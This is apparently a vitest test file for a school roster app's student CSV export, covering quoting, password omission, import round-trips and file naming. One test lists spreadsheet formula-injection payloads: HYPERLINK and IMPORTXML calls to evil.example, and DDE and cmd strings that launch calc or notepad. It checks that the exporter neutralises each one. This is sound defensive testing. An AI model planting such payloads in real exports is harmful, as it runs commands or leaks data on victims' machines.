import type { Student } from '@wonderfield/contract/classrooms/student';
import Papa from 'papaparse';
import { expect, it } from 'vitest';
import { csvName } from '../../../shared/csv/write-csv.ts';
import { parseList } from '../import/parse/parse-list.ts';
import { studentsCsv, templateCsv } from './student-csv.ts';

const HEADINGS = { firstName: 'First Name', lastName: 'Last Name', username: 'Username' };
const student = (firstName: string, lastName = 'Diallo', username = 'q8d3mz1k'): Student => ({
  id: 'student-1',
  firstName,
  lastName,
  username,
  isLoginManagedHere: true,
  mustChangePassword: true,
  signInMethod: 'own',
  hasIssuedPassword: true,
  hasCard: false,
  isIdle: false,
  isSynced: false,
  password: 'Maple@204',
});

it('writes names and usernames with RFC 4180 line endings and no password', () => {
  expect(studentsCsv([student('Amara')], HEADINGS)).toBe(
    '\uFEFF"First Name","Last Name","Username"\r\n"Amara","Diallo","q8d3mz1k"\r\n',
  );
});

it('doubles quotes and keeps commas and line breaks inside their field', () => {
  const text = studentsCsv([student('A "Mo" B', 'Diallo, Sr.\r\nII')], HEADINGS);
  expect(text).toContain('"A ""Mo"" B","Diallo, Sr.\r\nII"');
  expect(Papa.parse<string[]>(text.slice(1).trim()).data[1]).toEqual([
    'A "Mo" B',
    'Diallo, Sr.\r\nII',
    'q8d3mz1k',
  ]);
});

// No cell may start with a character that makes a spreadsheet program run a formula [T47].
// @proves S-roster-csv
it.each([
  '=HYPERLINK("http://evil.example","x")',
  '=1+1',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '\t=1',
  '\r=1',
  "=cmd|' /C notepad'!'A1'",
  '=IMPORTXML("http://evil.example","//a")',
  '=DDE("cmd";"/C calc";"x")',
  '+1-1',
  '-',
])('escapes the formula %j [T47]', (payload) => {
  for (const list of [
    [student(payload)],
    [student('Amara', payload)],
    [student('A', 'B', payload)],
  ]) {
    const cells = Papa.parse<string[]>(studentsCsv(list, HEADINGS).slice(1)).data.flat();
    expect(cells).toContain(`'${payload}`);
    expect(cells.some((cell) => /^[=+\-@\t\r]/.test(cell))).toBe(false);
  }
});

it('keeps a semicolon inside quotes, because some Excel locales split at semicolons', () => {
  expect(studentsCsv([student('a;=1+1')], HEADINGS)).toContain('"a;=1+1"');
});

// @proves S-roster-csv
it('exports a list that the import reads unchanged', () => {
  const text = studentsCsv([student('Zoë', 'de la Cruz')], HEADINGS);
  expect(parseList(text).people).toMatchObject([
    { firstName: 'Zoë', lastName: 'de la Cruz', username: 'q8d3mz1k' },
  ]);
});

it('writes a template with headings only', () => {
  expect(templateCsv(HEADINGS)).toBe('\uFEFF"First Name","Last Name","Username"\r\n');
});

it.each([
  ['Room 12 Explorers', 'room-12-explorers-students.csv'],
  ['../Étoiles: *3B*', 'etoiles-3b-students.csv'],
  ['班级', '班级-students.csv'],
  ['***', 'students.csv'],
])('names the file of %s as %s', (name, file) => {
  expect(csvName(name, 'students')).toBe(file);
});
